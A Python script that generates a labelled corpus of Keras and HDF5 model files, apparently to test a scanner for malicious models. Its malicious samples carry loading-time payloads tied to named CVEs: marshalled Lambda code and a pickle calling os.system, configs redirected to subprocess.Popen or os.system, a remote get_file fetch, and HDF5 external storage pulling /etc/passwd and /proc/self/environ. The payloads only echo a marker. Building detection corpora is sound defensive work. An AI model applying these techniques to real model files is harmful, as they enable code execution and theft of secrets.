#!/usr/bin/env python3
"""Writes the part of the second corpus that h5py and Keras themselves lay out, and a label for each file.

Usage: second.py DIR    writes DIR/second-python/... and DIR/second-python/labels.jsonl

Hostile files hold inert code that nothing here runs: only honest models are built, and their files are edited as text.
Libraries that are not installed are told on stderr and left out.
"""
import base64, collections, io, json, marshal, os, pickle, shutil, sys, warnings, zipfile

warnings.filterwarnings("ignore")
os.environ.setdefault("KERAS_BACKEND", "numpy")
WANT = {"malicious": ["malicious", "dangerous"], "benign": ["clean"], "malformed": ["not read", "dangerous", "malicious", "unknown"]}
CODE = base64.encodebytes(marshal.dumps(compile("__import__('os').system('echo lodemark-corpus')", "<lambda>", "eval"))).decode()
LAMBDA = {"class_name": "__lambda__", "config": {"code": CODE, "defaults": None, "closure": None}}
LAYER2 = {"class_name": "Lambda", "config": {"name": "lambda", "trainable": True, "dtype": "float32", "function": [CODE, None, None], "function_type": "lambda", "module": "__main__", "output_shape": None, "output_shape_type": "raw", "arguments": {}}}
DENSE2 = {"class_name": "Dense", "config": {"name": "dense", "trainable": True, "batch_input_shape": [None, 4], "dtype": "float32", "units": 2, "activation": "relu", "use_bias": True, "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}}, "bias_initializer": {"class_name": "Zeros", "config": {}}, "kernel_regularizer": None, "bias_regularizer": None, "activity_regularizer": None, "kernel_constraint": None, "bias_constraint": None}}
HONEST = "honest: written by the library itself"


class Corpus:
    """Where files go, one folder each."""

    def __init__(self, root):
        self.root = os.path.join(root, "second-python")
        shutil.rmtree(self.root, ignore_errors=True)
        os.makedirs(self.root)
        self.labels = []
        self.count = collections.Counter()

    def path(self, label, family, kind, why, name):
        self.count[label + family] += 1
        at = "second-python/%s/%s/%03d-%s" % (label, family, self.count[label + family], kind.replace(" ", "-").replace(".", "-"))
        full = os.path.join(os.path.dirname(self.root), at)
        os.makedirs(full)
        self.labels.append({"path": at + "/" + name, "label": label, "class": "second-" + kind, "family": family, "source": why, "want": WANT[label]})
        return os.path.join(full, name)

    def drop(self):
        """Takes the last case back: its library could not write it."""
        gone = self.labels.pop()
        shutil.rmtree(os.path.dirname(os.path.join(os.path.dirname(self.root), gone["path"])))

    def data(self, label, family, kind, why, name, data):
        with open(self.path(label, family, kind, why, name), "wb") as f:
            f.write(data)

    def finish(self):
        with open(os.path.join(self.root, "labels.jsonl"), "w") as f:
            for label in self.labels:
                f.write(json.dumps(label) + "\n")
        print(dict(collections.Counter(l["label"] for l in self.labels)))


class Call:
    """Pickles as a call of posix.system; never called here."""

    def __reduce__(self):
        return os.system, ("echo lodemark-corpus",)


def sequential(*layers):
    return json.dumps({"class_name": "Sequential", "config": {"name": "sequential", "layers": list(layers)}})


def weights(f, name="model_weights"):
    import numpy as np
    f.create_group(name).attrs["layer_names"] = np.array([b"dense"])
    g = f.create_group(name + "/dense/dense")
    f[name + "/dense"].attrs["weight_names"] = np.array([b"dense/kernel:0", b"dense/bias:0"])
    g["kernel:0"], g["bias:0"] = np.zeros((4, 2), "f4"), np.zeros(2, "f4")


def h5_forms(c):
    """The forms in which HDF5 keeps a text, with a Lambda and without."""
    import h5py, numpy as np
    forms = {
        "text": lambda f, s: f.attrs.__setitem__("model_config", s),
        "bytes": lambda f, s: f.attrs.__setitem__("model_config", np.bytes_(s)),
        "fixed": lambda f, s: f.attrs.create("model_config", s.encode(), dtype=h5py.string_dtype("utf-8", len(s) + 9)),
        "ascii": lambda f, s: f.attrs.create("model_config", s.encode(), dtype=h5py.string_dtype("ascii")),
        "many": lambda f, s: [f.attrs.__setitem__("a%d" % i, "x" * 50) for i in range(30)] and f.attrs.__setitem__("model_config", s),
    }
    for label, model in (("malicious", sequential(DENSE2, LAYER2)), ("benign", sequential(DENSE2))):
        why = HONEST if label == "benign" else "load_model of HDF5 unmarshals the code, however the attribute is stored; CVE-2025-9905, HDF5 attribute messages"
        for name, put in forms.items():
            for libver in ("earliest", "latest"):
                with h5py.File(c.path(label, "keras", "h5 attribute forms", why, "model.h5"), "w", libver=libver, track_order=name == "many") as f:
                    put(f, model)
                    f.attrs["keras_version"], f.attrs["backend"] = "2.13.1", "tensorflow"
                    weights(f)
        with h5py.File(c.path(label, "keras", "h5 behind a user block", why, "model.h5"), "w", userblock_size=512) as f:
            f.attrs["model_config"] = model
            weights(f)
        long = json.loads(model)
        long["config"]["layers"][:0] = [dict(DENSE2, config=dict(DENSE2["config"], name="dense_%d" % i)) for i in range(200)]
        with h5py.File(c.path(label, "keras", "h5 with a long configuration", why, "model.h5"), "w", libver="latest") as f:
            f.attrs["model_config"] = json.dumps(long)
            weights(f)
        with h5py.File(c.path(label, "keras", "h5 with a long configuration", why, "model.h5"), "w") as f:
            f.attrs["model_config"] = json.dumps(long)
            weights(f)
        with h5py.File(c.path(label, "keras", "h5 with training config", why, "model.h5"), "w") as f:
            f.attrs["model_config"] = sequential(DENSE2)
            f.attrs["training_config"] = json.dumps({"loss": "mse" if label == "benign" else {"class_name": "__lambda__", "config": {"value": [CODE, None, None]}}, "metrics": None, "optimizer_config": {"class_name": "Adam", "config": {"learning_rate": 0.001}}})
            weights(f)


def h5_elsewhere(c):
    """Data of a file that lie in another."""
    import h5py, numpy as np
    why = "h5py reads the other file when Keras reads the weights, so that its contents become weights; CVE-2026-1669, HDF5 external and virtual storage"

    def external(f):
        f.create_group("layers/dense/vars").create_dataset("0", (4, 2), "f4", external=[("/etc/passwd", 0, 32)])

    def virtual(f):
        layout = h5py.VirtualLayout((4, 2), "f4")
        layout[:] = h5py.VirtualSource("/home/user/other.h5", "secret", (4, 2))
        f.create_group("layers/dense/vars").create_virtual_dataset("0", layout)

    def link(f):
        f.create_group("layers/dense/vars")["0"] = h5py.ExternalLink("../../other.h5", "/secret")

    def chain(f):
        f["far"] = h5py.ExternalLink("/home/user/other.h5", "/")
        f.create_group("layers/dense")["vars"] = h5py.SoftLink("/far/secret")

    def several(f):
        f.create_group("layers/dense/vars").create_dataset("0", (4, 2), "f4", external=[("weights.raw", 0, 16), ("/proc/self/environ", 0, 16)])
    for put in (external, virtual, link, chain, several):
        for libver in ("earliest", "latest"):
            out = io.BytesIO()
            with h5py.File(out, "w", libver=libver) as f:
                put(f)
            c.data("malicious", "keras", "h5 data elsewhere", why, "model.weights.h5", out.getvalue())
            z = c.path("malicious", "keras", "h5 data elsewhere", why, "model.keras")
            with zipfile.ZipFile(z, "w") as z:
                z.writestr("metadata.json", '{"keras_version": "3.8.0", "date_saved": "2025-01-01@10:00:00"}')
                z.writestr("config.json", json.dumps({"module": "keras", "class_name": "Sequential", "config": {"name": "s", "trainable": True, "layers": []}, "registered_name": None}))
                z.writestr("model.weights.h5", out.getvalue())
    for libver in ("earliest", "latest"):
        with h5py.File(c.path("benign", "keras", "h5 with links of its own", HONEST, "model.weights.h5"), "w", libver=libver) as f:
            f.create_group("layers/dense/vars")["0"] = np.zeros((4, 2), "f4")
            f["alias"] = h5py.SoftLink("/layers/dense")
            f["same"] = f["layers"]
        with h5py.File(c.path("benign", "keras", "h5 packed", HONEST, "model.weights.h5"), "w", libver=libver) as f:
            g = f.create_group("layers/dense/vars")
            g.create_dataset("0", data=np.zeros((40, 20), "f4"), chunks=(10, 10), compression="gzip", shuffle=True, fletcher32=True)
            g.create_dataset("1", data=np.zeros((40,), "f2"), maxshape=(None,))
            g.create_dataset("2", data=[b"a", b"bc"])
    tables = "PyTables unpickles attributes and object arrays when they are read; attributeset.py and atom.py of PyTables"
    with h5py.File(c.path("malicious", "other", "pytables pickle", tables, "frame.h5"), "w") as f:
        f.attrs["CLASS"], f.attrs["PYTABLES_FORMAT_VERSION"], f.attrs["TITLE"], f.attrs["VERSION"] = np.bytes_("GROUP"), np.bytes_("2.1"), np.bytes_(""), np.bytes_("1.0")
        f.create_group("df").attrs["pandas_type"] = np.bytes_("frame")
        f["df"].attrs["info"] = np.bytes_(pickle.dumps(Call(), 0))
    with h5py.File(c.path("malicious", "other", "pytables pickle", tables, "frame.h5"), "w") as f:
        d = f.create_dataset("objects", (1,), h5py.vlen_dtype(np.uint8))
        d[0] = np.frombuffer(pickle.dumps(Call(), 4), np.uint8)
        d.attrs["CLASS"], d.attrs["PSEUDOATOM"], d.attrs["VERSION"] = np.bytes_("VLARRAY"), np.bytes_("object"), np.bytes_("1.4")


def h5_damage(c):
    """HDF5 of the newest layout, whose checksums tell of every flipped byte, and of the oldest, cut off."""
    import h5py, numpy as np
    for libver in ("earliest", "latest"):
        out = io.BytesIO()
        with h5py.File(out, "w", libver=libver) as f:
            f.attrs["model_config"] = sequential(DENSE2)
            weights(f)
        whole = out.getvalue()
        for cut in (len(whole) // 4, len(whole) // 2, len(whole) - 100):
            c.data("malformed", "keras", "cut h5 of h5py", "damage: cut off", "model.h5", whole[:cut])
        if libver == "latest":
            for at in (20, 30, 44, 60):
                c.data("malformed", "keras", "flipped h5 of h5py", "damage: a byte under a checksum", "model.h5", whole[:at] + bytes([whole[at] ^ 0x41]) + whole[at + 1:])
    with h5py.File(c.path("malformed", "keras", "h5 of a giant shape", "loading would ask for a petabyte; CVE-2026-0897", "model.weights.h5"), "w") as f:
        f.create_group("layers/dense/vars").create_dataset("0", (1 << 25, 1 << 25), "f4")


def keras_models(c):
    """Models of Keras itself, one for most layers, and edited copies with an attack in them."""
    import keras, numpy as np
    keras.utils.set_random_seed(0)
    L, I = keras.layers, keras.Input
    flat, row, image, clip, words = (8,), (6, 4), (16, 16, 3), (4, 8, 8, 2), (5,)
    layers = [
        (flat, L.Dense(3, activation="gelu", kernel_regularizer="l2", bias_constraint="non_neg")), (flat, L.Dense(3, activation=keras.activations.swish)), (flat, L.Activation("selu")), (flat, L.Dropout(0.5)), (flat, L.GaussianNoise(0.1)),
        (flat, L.ReLU(6.0)), (flat, L.LeakyReLU()), (flat, L.PReLU()), (flat, L.ELU()), (flat, L.Softmax()), (flat, L.Reshape((2, 4))), (flat, L.RepeatVector(3)), (flat, L.LayerNormalization()), (flat, L.UnitNormalization()), (flat, L.ActivityRegularization(0.1)),
        (row, L.Conv1D(2, 3, padding="causal")), (row, L.MaxPooling1D()), (row, L.Permute((2, 1))), (row, L.Flatten()), (row, L.LSTM(3, return_sequences=True)), (row, L.GRU(3)), (row, L.SimpleRNN(3)), (row, L.Bidirectional(L.LSTM(2))),
        (row, L.TimeDistributed(L.Dense(2))), (row, L.RNN([L.LSTMCell(2), L.GRUCell(3)])), (row, L.Masking()), (row, L.EinsumDense("abc,cd->abd", (None, 5), bias_axes="d")), (row, L.GlobalAveragePooling1D()), (row, L.SpatialDropout1D(0.2)), (row, L.ZeroPadding1D(1)), (row, L.UpSampling1D(2)), (row, L.Cropping1D(1)),
        (image, L.Conv2D(4, 3, activation="relu", kernel_initializer=keras.initializers.HeNormal())), (image, L.DepthwiseConv2D(3)), (image, L.SeparableConv2D(4, 3)), (image, L.Conv2DTranspose(2, 3, strides=2)), (image, L.BatchNormalization()), (image, L.GroupNormalization(3)), (image, L.MaxPooling2D()), (image, L.AveragePooling2D(2)),
        (image, L.GlobalMaxPooling2D()), (image, L.ZeroPadding2D(1)), (image, L.Cropping2D(1)), (image, L.UpSampling2D()), (image, L.Rescaling(1 / 255)), (image, L.Resizing(8, 8)), (image, L.CenterCrop(8, 8)), (image, L.Normalization(mean=0.5, variance=1.0)), (image, L.RandomFlip()), (image, L.RandomRotation(0.1)), (image, L.RandomZoom(0.1)), (image, L.RandomContrast(0.1)), (image, L.SpectralNormalization(L.Conv2D(2, 3))),
        (clip, L.Conv3D(2, 2)), ((3, 6, 4), L.ConvLSTM1D(2, 3)), (clip, L.MaxPooling3D()), (words, L.Embedding(50, 4, mask_zero=True)), (words, L.CategoryEncoding(10)),
    ]
    made = []
    for shape, layer in layers:
        name = type(layer).__name__
        at = c.path("benign", "keras", "keras itself " + name.lower(), HONEST, "model.keras")
        try:
            model = keras.Sequential([I(shape), layer])
            model.compile("adam", "mse", metrics=["mae"])
            model.save(at)
        except Exception as e:
            c.drop()
            print("second.py: left out: %s: %s" % (name, str(e).splitlines()[0]), file=sys.stderr)
            continue
        made.append(at)
        if name in ("Dense", "Conv2D", "LSTM", "Bidirectional", "BatchNormalization", "EinsumDense"):
            for file in ("model.h5", "model.weights.h5"):
                at = c.path("benign", "keras", "keras itself as " + file, HONEST, file)
                model.save(at) if file == "model.h5" else model.save_weights(at)
            c.data("benign", "keras", "keras itself as json", HONEST, "model.json", model.to_json().encode())
    x = I(image)
    y = L.Add()([L.Conv2D(3, 3, padding="same")(x), x])
    a = L.GlobalAveragePooling2D(name="pooled")(y)
    b = L.Dense(2, name="second")(keras.ops.relu(L.Flatten()(keras.ops.mean(y, axis=-1))) * 2.0)
    s = I(row)
    attended = L.MultiHeadAttention(2, 2)(s, s)
    big = [
        keras.Model(x, [a, b]), keras.Model(x, L.Concatenate()([a, b])), keras.Model(s, L.LayerNormalization()(attended + s)), keras.Model([x, s], [a, L.Flatten()(L.Attention()([s, s]))]),
        keras.Sequential([I(flat), keras.Sequential([I(flat), L.Dense(2)]), keras.Model(*(lambda i: (i, L.Dense(1)(i)))(I((2,))))]),
    ]
    settings = [
        dict(optimizer=keras.optimizers.SGD(keras.optimizers.schedules.CosineDecay(0.1, 10)), loss=["mse", "mae"]), dict(optimizer="rmsprop", loss=keras.losses.Huber(), metrics=[keras.metrics.MeanAbsoluteError()]),
        dict(optimizer=keras.optimizers.AdamW(weight_decay=0.01), loss="cosine_similarity"), dict(optimizer="nadam", loss=["mse", None]), dict(optimizer=keras.optimizers.Lion(), loss=keras.losses.BinaryCrossentropy(from_logits=True), metrics=["accuracy", keras.metrics.AUC()], weighted_metrics=["mae"]),
    ]
    for i, (model, setting) in enumerate(zip(big, settings)):
        model.compile(**setting)
        made.append(c.path("benign", "keras", "keras itself whole models", HONEST, "model.keras"))
        model.save(made[-1])
        model.save(c.path("benign", "keras", "keras itself whole models", HONEST, "model.h5"))
        c.data("benign", "keras", "keras itself as json", HONEST, "model.json", model.to_json().encode())

    @keras.saving.register_keras_serializable("mine")
    class Gate(L.Layer):
        def call(self, x):
            return x * 2
    at = c.path("malformed", "keras", "class of ones own", "a registered class of somebody's code: nobody else knows what it does", "model.keras")
    keras.Sequential([I(flat), Gate()]).save(at)
    keras_edited(c, made)


def keras_edited(c, made):
    """Attacks put into what Keras wrote."""
    def function(module, name):
        return {"module": module, "class_name": "function", "config": name, "registered_name": name}

    def first(config, test):
        stack = [config]
        while stack:
            v = stack.pop()
            if isinstance(v, dict):
                if test(v):
                    return v
                stack.extend(v.values())
            elif isinstance(v, list):
                stack.extend(v)

    def layer(config):
        return first(config, lambda v: str(v.get("module", "")).startswith("keras.layers") and v.get("class_name") not in ("InputLayer", None))

    def lambda_layer(config):
        l = layer(config)
        l["class_name"], l["config"] = "Lambda", {"name": l["config"].get("name"), "function": LAMBDA, "arguments": {}}

    def other_module(config):
        l = layer(config)
        l["module"], l["class_name"] = "subprocess", "Popen"

    def get_file(config):
        l = layer(config)
        l["class_name"], l["config"] = "Lambda", {"name": "l", "function": function("keras.utils", "get_file"), "arguments": {"origin": "http://example.org/x", "extract": True}}

    def loss(config):
        config["compile_config"] = {"optimizer": "adam", "loss": function("os", "system"), "metrics": None}

    def policy(config):
        first(config, lambda v: v.get("class_name") == "DTypePolicy").update({"module": "os", "class_name": "function", "config": "system"})

    def build(config):
        layer(config)["build_config"] = {"input_shape": {"class_name": "__lambda__", "config": {"value": [CODE, None, None]}}}

    def lookup(config):
        l = layer(config)
        l["class_name"], l["config"] = "StringLookup", {"name": "s", "vocabulary": "/etc/passwd", "num_oov_indices": 1}
    for i, edit in enumerate((lambda_layer, other_module, get_file, loss, policy, build, lookup)):
        for at in (made[-1 - i % 5], made[i * 5], made[(i * 7 + 3) % len(made)]):
            old = zipfile.ZipFile(at)
            config = json.loads(old.read("config.json"))
            edit(config)
            name = edit.__name__.replace("_", " ")
            with zipfile.ZipFile(c.path("malicious", "keras", "keras itself edited", "loading runs or reads what was put in (%s); CVE-2025-1550, CVE-2025-8747, CVE-2025-12058, CVE-2024-3660" % name, "model.keras"), "w") as new:
                for member in old.namelist():
                    new.writestr(member, json.dumps(config) if member == "config.json" else old.read(member))


def main():
    c = Corpus(sys.argv[1])
    for part in (h5_forms, h5_elsewhere, h5_damage, keras_models):
        try:
            part(c)
        except ImportError as e:
            print("second.py: left out: %s: %s" % (part.__name__, e), file=sys.stderr)
    c.finish()


if __name__ == "__main__":
    main()
